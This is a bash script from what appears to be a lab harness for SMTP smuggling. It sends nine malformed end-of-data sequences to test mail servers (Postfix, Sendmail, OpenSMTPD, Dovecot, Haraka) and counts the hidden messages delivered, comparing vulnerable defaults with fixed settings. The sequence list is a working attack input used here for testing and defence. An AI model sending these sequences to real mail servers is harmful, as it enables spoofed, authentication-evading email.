# shellcheck shell=bash disable=SC2034,SC2153
# (variables of the other files)
# The recipes of messages hidden inside messages: lib/topics.sh tells how recipes are made.

# The nine sequences that are no end of data by RFC 5321, and that some server has taken for one.
SMUGGLING_SEQUENCES=('\n.\n' '\n.\r' '\r.\n' '\r.\r' '\n.\r\n' '\r.\r\n' '\r\n\0.\r\n' '\r\n.\r\r\n' '\r\r\n.\r\r\n')

# smuggle_each PORT HELLO SEQUENCE...: one connection for each, and what came of it on standard error.
smuggle_each() {
  local port=$1 hello=$2 sequence; shift 2
  for sequence in "$@"; do
    python_client smuggler mx.example.com "$sequence" "$port" "$hello"
    say "  $sequence: $(cat "$WORK/smuggler.log")"
    until_true 10 no_connections
  done
}

# kept: how many of each message lie in the mailboxes of mx.
kept() {
  say "  in the mailboxes: $(on mx grep -c '^Message-ID: <outer' /var/mail/bob || true) outer and" \
    "$(on mx grep -c '^Message-ID: <hidden' /var/mail/carol || true) hidden messages"
}

smuggle_all() { smuggle_each 25 EHLO "${SMUGGLING_SEQUENCES[@]}"; }
# Three that tell servers apart: LF.LF, LF.CRLF, CR.CRLF.
smuggle_some() { smuggle_each "${1-25}" "${2-EHLO}" '\n.\n' '\n.\r\n' '\r.\r\n'; }

topic_smuggling() {
  sample postfix postfix tools # the default of 3.7
  postfix_server </dev/null
  capture_on mx
  smuggle_all
  capture_end
  kept

  sample postfix-fixed postfix tools
  postfix_server <<<'smtpd_forbid_bare_newline = normalize'
  capture_on mx
  smuggle_all
  capture_end
  kept

  sample postfix-rejects postfix tools
  postfix_server <<<'smtpd_forbid_bare_newline = reject'
  capture_on mx
  smuggle_some
  capture_end
  kept

  sample sendmail-old-mode sendmail tools # as Sendmail before 8.18 and Debian's correction
  sendmail_server <<<$'LOCAL_RULESETS\nSsrv_features\nR$*\t\t$# O U G F'
  capture_on mx
  smuggle_all
  capture_end
  kept

  sample sendmail sendmail tools
  sendmail_server </dev/null
  capture_on mx
  smuggle_some
  capture_end
  kept

  sample cleaning-gateway postfix tools
  postfix_behind 10025 <<<'smtpd_forbid_bare_newline = normalize'
  proxy_on_mx cleaner 25 10025
  capture_on mx
  smuggle_all
  capture_end
  kept

  sample opensmtpd opensmtpd tools
  opensmtpd_server </dev/null
  capture_on mx
  smuggle_some
  capture_end
  kept

  sample dovecot-lmtp postfix tools
  dovecot_lmtp
  capture_on mx
  smuggle_some 24 LHLO
  capture_end

  has_new_node || return 0
  sample haraka haraka tools
  haraka_server
  capture_on mx
  smuggle_some
  capture_end
}
